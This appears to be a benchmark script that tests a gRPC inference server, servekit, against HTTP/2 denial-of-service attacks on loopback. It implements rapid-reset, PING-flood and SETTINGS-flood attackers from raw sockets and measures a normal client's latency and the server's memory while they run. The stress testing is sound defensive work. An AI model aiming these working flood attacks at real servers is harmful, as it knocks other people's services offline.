"""HTTP/2 attacks on servekit's gRPC port (issue: no client can crash or starve the
server), native runtime, add_sub: while an attacker runs for ``--seconds`` from raw
sockets (sending without pause, reconnecting whenever the server hangs up on it), a polite grpcio client calls
on its own connection; reported per attack: the polite calls' median and slowest
latency, how many connections the attacker opened and how each ended, the server's
resident memory before, at the end of the attack and a second after.

    python bench/h2_attacks.py --out bench/results/h2_attacks
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import statistics
import threading
import time
from pathlib import Path
from typing import Any

import grpc
import hpack
import numpy as np
from tritonclient.grpc import service_pb2, service_pb2_grpc

from servekit import ModelConfig, ServeConfig, ServerConfig, zoo
from servekit.bench.report import machine
from servekit.native import NativeServer
from servekit.store import rss_bytes

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


class RapidReset:
    """HEADERS then RST_STREAM, 10,000 new streams a call (stream ids keep rising, as a
    real client's must)."""

    def __init__(self) -> None:
        enc = hpack.Encoder()
        headers = [(":method", "POST"), (":scheme", "http"), (":path", INFER),
                   (":authority", "x"), ("content-type", "application/grpc")]  # fmt: skip
        self.first, self.block = enc.encode(headers), enc.encode(headers)
        cancel = (8).to_bytes(4, "big")
        # Made up front (five sends, 50,000 streams), so the attacker's Python does not
        # compete with the server for this process's GIL while it sends.
        self.made = [frame(1, 4, 1, self.first) + frame(3, 0, 1, cancel)] + [
            b"".join(
                frame(1, 4, s, self.block) + frame(3, 0, s, cancel)
                for s in range(start, start + 20000, 2)
            )
            for start in range(3, 100003, 20000)
        ]

    def blobs(self):
        yield from self.made
        while True:  # a connection that outlived 50,000 resets: keep it busy with PINGs
            yield frame(6, 0, 0, b"pingpong") * 1000


class Repeat:
    def __init__(self, blob: bytes) -> None:
        self.blob = blob

    def blobs(self):
        while True:
            yield self.blob


ATTACKS = {
    "rapid reset (10,000 streams a send, the attacker reading)": RapidReset,
    "PING flood (200,000 a send, never reading)": lambda: Repeat(
        frame(6, 0, 0, b"pingpong") * 200_000
    ),
    "SETTINGS flood (200,000 a send, never reading)": lambda: Repeat(frame(4, 0, 0) * 200_000),
}


def attacker(
    address: tuple[str, int], attack: Any, until: float, ends: list[str], reads: bool
) -> None:
    """Send the attack's frames without pause on one connection until the server hangs
    up, then reconnect, until ``until``; the rapid-reset attacker reads what comes back
    (as a client must, to keep going), the flooders never do."""
    while time.monotonic() < until:
        with socket.create_connection(address, timeout=5) as s:
            got = bytearray()
            if reads:
                threading.Thread(target=_drain, args=(s, got), daemon=True).start()
            try:
                s.sendall(PREFACE + frame(4, 0, 0))
                for blob in attack.blobs():
                    if time.monotonic() >= until:
                        break
                    s.sendall(blob)
                ends.append("still open at the end")
            except OSError as exc:
                ends.append(
                    "GOAWAY ENHANCE_YOUR_CALM" if b"too many" in got else type(exc).__name__
                )


def _drain(s: socket.socket, got: bytearray) -> None:
    with contextlib.suppress(OSError):
        while chunk := s.recv(1 << 16):
            got.extend(chunk[-4096:])


def polite(stub, until: float, latencies: list[float]) -> None:
    request = service_pb2.ModelInferRequest(model_name="adder")
    for name in ("INPUT0", "INPUT1"):
        request.inputs.add(name=name, datatype="FP32", shape=[1, 16])
        request.raw_input_contents.append(np.ones((1, 16), np.float32).tobytes())
    while time.monotonic() < until:
        start = time.perf_counter()
        stub.ModelInfer(request, timeout=60)
        latencies.append(time.perf_counter() - start)
        time.sleep(0.01)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--out", type=Path, default=Path("bench/results/h2_attacks"))
    args = parser.parse_args()
    config = ServeConfig(
        (ModelConfig(str(zoo.build("add_sub")), "adder"),), ServerConfig(exit_timeout_s=2),
        runtime="native",
    ).on_loopback()  # fmt: skip
    rows = []
    with NativeServer(config):
        address = (config.server.client_host, config.server.grpc_port)
        channel = grpc.insecure_channel(f"{address[0]}:{address[1]}")
        stub = service_pb2_grpc.GRPCInferenceServiceStub(channel)
        for name, make in ATTACKS.items():
            attack = make()
            baseline: list[float] = []
            polite(stub, time.monotonic() + 2, baseline)
            before = rss_bytes()
            until = time.monotonic() + args.seconds
            ends: list[str] = []
            latencies: list[float] = []
            reads = name.startswith("rapid")
            thread = threading.Thread(target=attacker, args=(address, attack, until, ends, reads))
            thread.start()
            polite(stub, until, latencies)
            thread.join()
            during = rss_bytes()
            time.sleep(1)
            rows.append({
                "attack": name,
                "polite_median_ms_before": statistics.median(baseline) * 1e3,
                "polite_median_ms": statistics.median(latencies) * 1e3,
                "polite_max_ms": max(latencies) * 1e3,
                "polite_calls": len(latencies),
                "attacker_connections": len(ends),
                "attacker_ends": sorted(set(ends)),
                "rss_mb": [before / 2**20, during / 2**20, rss_bytes() / 2**20],
            })  # fmt: skip
            print(json.dumps(rows[-1]))
        with contextlib.suppress(Exception):
            channel.close()
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.with_suffix(".json").write_text(
        json.dumps({"machine": machine(), "seconds": args.seconds, "rows": rows}, indent=1)
    )


if __name__ == "__main__":
    main()
